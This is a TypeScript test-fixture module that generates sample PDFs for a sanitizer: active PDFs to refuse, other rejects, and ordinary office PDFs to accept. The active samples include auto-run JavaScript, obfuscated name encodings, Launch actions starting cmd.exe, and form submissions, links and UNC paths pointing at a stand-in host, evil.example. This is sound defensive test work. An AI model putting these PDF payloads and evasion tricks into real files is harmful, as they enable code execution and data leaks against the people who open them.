import { deflateSync } from "node:zlib";
import { compressedPdf, pdfOf, revisedPdf } from "./pdf-file";

type Pdf = { readonly what: string; readonly bytes: () => Buffer };
type Active = Pdf & {
  readonly refused: "acts-by-itself" | "outside-link" | "protected" | "program-inside" | "damaged";
};

const opening = (action: string) => () => pdfOf("x", { catalog: `/OpenAction${action}` });
const withObject =
  (catalog: string, ...objects: readonly string[]) =>
  () =>
    pdfOf("x", { catalog, objects });
/** A page with an annotation: something to click, or that opens, plays or sends a request by itself. */
const annotated = (annotation: string) => () =>
  pdfOf("x", { page: "/Annots[6 0 R]", objects: [`<</Type/Annot/Rect[20 20 90 40]${annotation}>>`] });
const clicked = (action: string) => annotated(`/Subtype/Link/A${action}`);
const SCRIPT = "<</S/JavaScript/JS(app.alert\\(1\\))>>";
const attached = (name: string) => [
  `<</Type/Filespec/F(${name})/EF<</F 7 0 R>>>>`,
  "<</Type/EmbeddedFile/Length 2>>stream\nhi\nendstream",
];

/** PDFs that act by themselves, or that do more on a click than open a link; also hidden in various ways. */
export const ACTIVE_PDFS: readonly Active[] = [
  { what: "a script when it is opened", bytes: opening(SCRIPT) },
  { what: "a script under a name written by numbers", bytes: opening("<</#53/J#61vaScript/#4a#53(a)>>") },
  { what: "a script in an object of its own", bytes: withObject("/OpenAction 6 0 R", SCRIPT) },
  { what: "a script whose kind stands elsewhere", bytes: withObject("/OpenAction<</S 6 0 R/D[]>>", "/Launch") },
  {
    what: "a script by its name in the document",
    bytes: withObject("/Names<</JavaScript<</Names[(a) 6 0 R]>>>>", SCRIPT),
  },
  { what: "a script after a step to a page", bytes: opening(`<</S/GoTo/D[3 0 R/Fit]/Next ${SCRIPT}>>`) },
  { what: "a script when a page is opened", bytes: () => pdfOf("x", { page: `/AA<</O ${SCRIPT}>>` }) },
  { what: "a script when it is printed", bytes: withObject(`/AA<</WP ${SCRIPT}>>`) },
  { what: "a script behind a field", bytes: annotated(`/Subtype/Widget/FT/Tx/T(a)/AA<</K ${SCRIPT}>>`) },
  { what: "a script in a packed object", bytes: () => compressedPdf({ catalog: `/OpenAction${SCRIPT}` }) },
  { what: "a script in an earlier revision", bytes: () => revisedPdf(`/OpenAction${SCRIPT}`, "") },
  { what: "a script in a later revision", bytes: () => revisedPdf("", `/OpenAction${SCRIPT}`) },
  { what: "a script behind a comment", bytes: () => swapped("6 0 obj", "6 %\n0 %\nobj", SCRIPT) },
  {
    what: "a web address behind a comment",
    bytes: () => swapped("6 0 obj", "6 %\n0 %\nobj", "<</S/URI/URI(https://evil.example)>>"),
  },
  {
    what: "a script behind words that are none",
    bytes: () => swapped(SCRIPT, SCRIPT.replace("<<", "<</Z endobj "), SCRIPT),
  },
  { what: "a script that is said twice", bytes: opening("[3 0 R/Fit]/OpenAction<</S/JavaScript/JS(a)>>") },
  { what: "a web address that opens by itself", bytes: opening("<</S/URI/URI(https://evil.example/?who)>>") },
  {
    what: "a web address after a page was opened",
    bytes: opening("<</S/GoTo/D[3 0 R/Fit]/Next<</S/URI/URI(https://evil.example)>>>>"),
  },
  { what: "a program that is started", bytes: opening("<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>") },
  { what: "a program that a click starts", bytes: clicked("<</S/Launch/F(update.exe)>>") },
  {
    what: "a file of another machine",
    bytes: opening("<</S/GoToR/F(\\\\\\\\evil.example\\\\share\\\\a.pdf)/D[0/Fit]>>"),
  },
  {
    what: "an article of another machine",
    bytes: clicked("<</S/Thread/F(\\\\\\\\evil.example\\\\a.pdf)/D 0>>"),
  },
  {
    what: "a script as an address behind a mark of UTF-8",
    bytes: clicked("<</S/URI/URI<EFBBBF6a6176617363726970743a31>>>"),
  },
  { what: "a file as an address in letters of two bytes", bytes: clicked("<</S/URI/URI<FFFE660069006c0065003a00>>>") },
  { what: "a file in the file", bytes: clicked("<</S/GoToE/T<</R/C/N(a.pdf)>>>>") },
  {
    what: "a form that sends itself",
    bytes: annotated("/Subtype/Widget/FT/Btn/T(a)/A<</S/SubmitForm/F<</FS/URL/F(https://evil.example)>>>>"),
  },
  { what: "figures read from a file", bytes: opening("<</S/ImportData/F(\\\\\\\\evil.example\\\\a.fdf)>>") },
  { what: "a film", bytes: annotated("/Subtype/RichMedia/RichMediaContent<<>>") },
  { what: "a sound that plays", bytes: annotated("/Subtype/Screen/A<</S/Rendition/OP 0>>") },
  {
    what: "a form that is a program",
    bytes: withObject("/AcroForm<</Fields[]/XFA 6 0 R>>", "<</Length 6>>stream\n<xdp/>\nendstream"),
  },
  { what: "a link that runs a script", bytes: clicked("<</S/URI/URI(java\\nscript:alert\\(1\\))>>") },
  { what: "a link to a file of the machine", bytes: clicked("<</S/URI/URI(file:///c:/windows/system32/calc.exe)>>") },
  { what: "a link to another machine", bytes: clicked("<</S/URI/URI<5c5c6576696c5c73>>>") },
  {
    what: "a link to a program by its scheme, in two bytes",
    bytes: clicked("<</S/URI/URI<feff006d0073002d0077006f00720064003a00610062>>>"),
  },
].map((pdf) => ({ ...pdf, refused: "acts-by-itself" as const }));

/** PDFs that are refused for other reasons than acting by themselves. */
export const CLOSED_PDFS: readonly Active[] = [
  {
    what: "a picture that lies on another machine",
    bytes: withObject("", "<</Type/XObject/F(\\\\\\\\evil.example\\\\a.bin)/Length 0>>stream\n\nendstream"),
    refused: "outside-link",
  },
  {
    what: "a page that is shown out of another file",
    bytes: withObject(
      "",
      "<</Type/XObject/Subtype/Form/Ref<</F(\\\\\\\\evil.example\\\\a.pdf)/Page 0>>/Length 0>>stream\n\nendstream",
    ),
    refused: "outside-link",
  },
  {
    what: "a program pinned to a page",
    bytes: () =>
      pdfOf("x", {
        page: "/Annots[<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS 6 0 R>>]",
        objects: attached("a.exe"),
      }),
    refused: "program-inside",
  },
  {
    what: "many objects of one number that lead to each other",
    bytes: withObject("/A<</S 9 0 R>>", "9 0 obj 9 0 R ".repeat(20_000)),
    refused: "damaged",
  },
  {
    what: "packed objects under a lock",
    bytes: () => compressedPdf({ trailer: "/Encrypt 9 0 R/ID[<01><01>]" }),
    refused: "protected",
  },
  {
    what: "objects that are packed in an unheard-of way",
    bytes: () => compressedPdf({ packing: "/DecodeParms<</Predictor 12/Columns 4>>" }),
    refused: "damaged",
  },
];

/** PDFs as office programs create them. */
export const ORDINARY_PDFS: readonly Pdf[] = [
  { what: "one line of words", bytes: () => pdfOf() },
  { what: "a report whose objects are packed", bytes: () => compressedPdf({}) },
  { what: "a start that leads nowhere", bytes: opening(" 99 0 R") },
  { what: "a report that opens at a page", bytes: opening("[3 0 R/Fit]") },
  { what: "a report that opens at a page by an action", bytes: opening("<</S/GoTo/D[3 0 R/XYZ null null 0]>>") },
  { what: "a report that opens at a place of its own", bytes: withObject("/OpenAction 6 0 R", "<</S/GoTo/D(start)>>") },
  { what: "a report that was signed or amended", bytes: () => revisedPdf("/Lang(en)", "/Lang(zh)") },
  { what: "a link to the web", bytes: clicked("<</S/URI/URI(https://nordhem.example/a?b=1\\(2\\))>>") },
  { what: "a link to a person", bytes: clicked("<</S/URI/URI(mailto:buyer@nordhem.example)>>") },
  { what: "a link without a scheme", bytes: clicked("<</S/URI/URI(www.nordhem.example:8080/a)>>") },
  { what: "a link in two bytes", bytes: clicked("<</S/URI/URI<feff00680074007400700073003a002f002f0061>>>") },
  { what: "a link to a page", bytes: clicked("<</S/GoTo/D[3 0 R/Fit]>>") },
  { what: "the button that prints", bytes: clicked("<</S/Named/N/Print>>") },
  {
    what: "an outline",
    bytes: withObject(
      "/Outlines 6 0 R/PageMode/UseOutlines",
      "<</Type/Outlines/First 7 0 R/Last 7 0 R/Count 1>>",
      "<</Title(Visit)/Parent 6 0 R/Dest[3 0 R/Fit]>>",
    ),
  },
  {
    what: "a report with its structure, as a screen reader reads it",
    bytes: withObject(
      "/MarkInfo<</Marked true>>/StructTreeRoot 6 0 R",
      "<</Type/StructTreeRoot/K[<</S/Document/K[<</S/P/P 6 0 R>>]>>]>>",
    ),
  },
  {
    what: "a form to fill in",
    bytes: () =>
      pdfOf("x", {
        catalog: "/AcroForm<</Fields[6 0 R]/DA(/F1 0 Tf)>>",
        page: "/Annots[6 0 R]",
        objects: ["<</Type/Annot/Subtype/Widget/FT/Tx/T(name)/Rect[20 20 90 40]/AA<<>>>>"],
      }),
  },
  {
    what: "an invoice with its figures beside it",
    bytes: withObject("/Names<</EmbeddedFiles<</Names[(a) 6 0 R]>>>>", ...attached("factur-x.xml")),
  },
  {
    what: "words about scripts, which are words",
    bytes: () =>
      pdfOf("/S /JavaScript", {
        objects: [packed("<</S/JavaScript/JS(a)>> 1 0 obj <</S/Launch>>"), "(/OpenAction<</S/JavaScript>>)"],
      }),
  },
];

/** A compressed stream that is no container of objects, such as the text of a page. */
const packed = (words: string): string => {
  const data = deflateSync(words);
  return `<</Filter/FlateDecode/Length ${data.length}>>stream\n${data.toString("latin1")}\nendstream`;
};

/** A PDF with a script in one of its objects, in which one text is replaced by another of the same length. */
function swapped(from: string, to: string, object: string): Buffer {
  const bytes = pdfOf("x", { catalog: "/OpenAction 6 0 R", objects: [object] });
  return Buffer.from(
    bytes.toString("latin1").replace(from, () => to),
    "latin1",
  );
}
